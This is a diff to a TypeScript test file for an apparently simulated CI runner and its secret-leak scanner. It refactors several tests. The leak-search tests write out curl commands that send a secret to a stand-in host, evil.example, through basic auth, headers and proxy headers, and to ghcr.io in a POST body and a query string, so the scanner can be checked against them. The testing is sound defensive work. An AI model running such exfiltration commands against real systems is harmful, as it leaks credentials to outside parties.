@@ -7,6 +7,7 @@ import { enterprise, githubCom } from '../github/servers.ts'
 import { classicPat, githubToken } from '../github/tokens.ts'
 import { type Finding, formsOf, search } from './leak-scan.ts'
 import { Masks } from './masks.ts'
+import { runWorkflow } from './workflow.ts'
 import { StepLog } from './workflow-commands.ts'
 
 describe('the runner', () => {
@@ -40,13 +41,10 @@ describe('the runner', () => {
     expect(log.log).not.toContain('hunter2')
   })
 
-  it.each(['::add-mask::', '::set-output name=a::b'])(
-    'refuses %s: no step of a real runner may do that',
-    async command => {
-      const { job } = await simulate({})
-      await expect(job.run(`echo '${command}'`)).rejects.toThrow(/an empty value was masked|::set-output::/)
-    }
-  )
+  it.each(['::add-mask::', '::set-output name=a::b'])('refuses %s, as a real one does', async command => {
+    const { job } = await simulate({})
+    await expect(job.run(`echo '${command}'`)).rejects.toThrow(/an empty value was masked|::set-output::/)
+  })
 
   it.each([
     ['packages: read', 'read'],
@@ -55,7 +53,7 @@ describe('the runner', () => {
     const { simulator, job } = await simulate({ tokens: [githubToken()] })
     const file = join(job.folder.temp, 'workflow.yml')
     writeFileSync(file, `permissions: { ${permissions} }\njobs: { build: { steps: [] } }\n`)
-    await job.workflow(file, 'build')
+    await runWorkflow(job, file, 'build')
     expect(simulator.world.tokens[0]?.packages).toBe(packages)
   })
 
@@ -66,12 +64,7 @@ describe('the runner', () => {
     const { job } = await simulate()
     const file = join(job.folder.temp, 'workflow.yml')
     writeFileSync(file, `jobs: { build: { steps: [{ ${step} }] } }\n`)
-    await expect(job.workflow(file, 'build')).rejects.toThrow(message)
-  })
-
-  it('hands out no engine that a job was not given', async () => {
-    const { job } = await simulate()
-    expect((await job.run('type docker podman buildah skopeo git; true')).stdout).toBe('')
+    await expect(runWorkflow(job, file, 'build')).rejects.toThrow(message)
   })
 })
 
@@ -146,19 +139,15 @@ describe('the leak search', () => {
       // The script and curl's arguments are no part of what is searched: curl is not recorded.
       const send = (what: string) =>
         job.run(`curl -s --cacert "$SSL_CERT_FILE" ${what}`).catch((error: Error) => error.message)
-      expect(await send(`-u x:${SECRET} https://evil.example/`)).toMatch(/mine \(base64\) in a GET to evil.example/)
-      expect(await send(`-H 'X-Own: ${SECRET}' --proxy-header 'X-Own: ${SECRET}' https://evil.example/`)).toMatch(
-        /CONNECT to evil.example/
-      )
-      expect(await send(`-x $HTTP_PROXY -d ${SECRET} http://ghcr.io/token`)).toMatch(
-        /mine \(plain\) in a POST to ghcr.io/
-      )
-      expect(await send(`'https://ghcr.io/token?service=ghcr.io&account=${SECRET}'`)).toMatch(
-        /the address of a GET to ghcr.io/
-      )
-      expect(await send(`-u x:${SECRET} 'https://ghcr.io/token?service=ghcr.io' -o /dev/null`)).toMatchObject({
-        exitCode: 0
-      })
+      for (const [what, found] of [
+        [`-u x:${SECRET} https://evil.example/`, 'mine (base64) in a GET to evil.example'],
+        [`-H 'X-Own: ${SECRET}' --proxy-header 'X-Own: ${SECRET}' https://evil.example/`, 'CONNECT to evil.example'],
+        [`-x $HTTP_PROXY -d ${SECRET} http://ghcr.io/token`, 'mine (plain) in a POST to ghcr.io'],
+        [`'https://ghcr.io/token?service=ghcr.io&account=${SECRET}'`, 'the address of a GET to ghcr.io']
+      ] as const)
+        expect(await send(what)).toContain(found)
+      const belongs = await send(`-u x:${SECRET} 'https://ghcr.io/token?service=ghcr.io' -o /dev/null`)
+      expect(belongs).toMatchObject({ exitCode: 0 })
       await expect(closing(simulator)).rejects.toThrow('anonymous /token')
     }
   )
